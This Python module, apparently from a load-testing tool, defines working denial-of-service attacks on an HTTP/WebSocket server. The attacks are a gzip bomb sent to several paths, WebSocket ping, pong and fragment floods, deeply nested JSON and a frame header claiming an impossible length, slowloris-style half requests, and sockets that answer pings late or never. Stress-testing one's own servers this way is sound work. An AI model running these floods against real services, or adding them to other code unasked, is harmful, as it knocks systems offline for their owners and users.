"""Attacks below the protocol: bodies, frames, connections."""

import asyncio
import zlib
from collections.abc import AsyncGenerator
from contextlib import suppress

from load.socket import BINARY, FINAL, PING, PONG, TEXT, upgrade

from .client import PATH, netloc
from .field import PAUSE, TROUBLE, Attack, Field, frame, together

CONTINUATION = 0
MEGABYTE = 1024 * 1024
UNPACKED = 1024  # megabytes
PATHS = ("GET /healthz", "POST /api/verify", "POST /ws", "PUT /nowhere", "POST /")
HALVES = 800  # requests that never end
DEPTH = 7000  # of a JSON value that fits into a frame

Wave = AsyncGenerator[None, None]


def zipped(megabytes: int) -> bytes:
    """Zeros, a thousandth of their size."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = bytes(MEGABYTE)
    return b"".join([*(packer.compress(zeros) for _ in range(megabytes)), packer.flush()])


async def bomb(field: Field) -> Wave:
    body = zipped(UNPACKED)
    host, _ = netloc(field.address)
    requests = [
        f"{path} HTTP/1.1\r\nHost: {host}\r\nContent-Encoding: gzip\r\n"
        f"Content-Length: {len(body)}\r\n\r\n".encode()
        + body
        for path in PATHS
    ]
    yield

    async def again(number: int, request: bytes) -> None:
        while True:
            await field.request(request, number)
            await asyncio.sleep(PAUSE)

    await together(again(number, request) for number, request in enumerate(requests))


async def frames(field: Field, chunk: bytes, size: int, first: bytes = b"") -> Wave:
    """Twenty connections from four addresses, each with nothing but these."""
    yield
    await together(field.flood(chunk, size, number % 4, first) for number in range(20))


def ping(field: Field) -> Wave:
    return frames(field, frame(PING, b"") * 1000, 1000)


def pong(field: Field) -> Wave:
    return frames(field, frame(PONG, b"") * 1000, 1000)


def fragments(field: Field) -> Wave:
    begin = frame(TEXT, b"", final=False)
    return frames(field, frame(CONTINUATION, b"", final=False) * 1000, 1000, begin)


def big(field: Field) -> Wave:
    deep = b'{"type":"ping","id":' + b"[" * DEPTH + b"]" * DEPTH + b"}"
    long = frame(TEXT, b'{"type":"ping","id":"' + b"x" * 60_000 + b'"}')
    blob = frame(BINARY, bytes(16_000))
    half = bytes((FINAL | TEXT, 0xFF)) + (1 << 62).to_bytes(8, "big") + bytes(4)
    return frames(field, frame(TEXT, deep) * 4 + long + blob + half, 7)


async def churn(field: Field) -> Wave:
    """Sockets that open and close, and requests that never end."""
    whole = upgrade(field.address, PATH)
    yield

    async def open_and_close(number: int) -> None:
        while True:
            with suppress(*TROUBLE):
                reader, writer = await field.connect(number)
                writer.write(whole)
                await reader.read(1024)
                writer.transport.abort()
            field.sent["connections"] += 1
            await asyncio.sleep(0)

    async def half(number: int) -> None:
        while True:
            with suppress(*TROUBLE):
                _, writer = await field.connect(4 + number % 4)
                field.sent["half requests"] += 1
                for letter in whole[:-2]:
                    writer.write(bytes((letter,)))
                    await writer.drain()
                    await asyncio.sleep(1.0)
            await asyncio.sleep(PAUSE)

    opening = [open_and_close(number % 4) for number in range(16)]
    await together([*opening, *(half(number) for number in range(HALVES))])


async def late_pongs(field: Field) -> Wave:
    """Sockets that answer the server's pings late, or not at all."""
    sockets = []
    for number in range(60):
        with suppress(*TROUBLE):
            sockets.append((number, await field.socket(number % 2)))
    field.sent["connections"] += len(sockets)
    yield

    async def dawdle(
        number: int, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        while data := await reader.read(1024):
            await asyncio.sleep(5.0 if number % 2 else 3600.0)
            writer.write(frame(PONG, data[2:127]))

    await together(dawdle(number, *stream) for number, stream in sockets)
    await asyncio.sleep(3600)


FLOODS = (
    Attack("bomb", "1 MB of gzip that unpacks to 1 GB, to five paths", bomb),
    Attack("ping", "20 connections of WebSocket PINGs", ping),
    Attack("pong", "20 connections of PONGs that nobody asked for", pong),
    Attack("fragments", "20 connections of empty fragments", fragments),
    Attack("big", "20 connections of big frames and deep JSON", big),
    Attack("churn", "sockets that open and close, 800 half requests", churn),
    Attack("late-pongs", "60 connections that answer pings late or never", late_pongs),
)
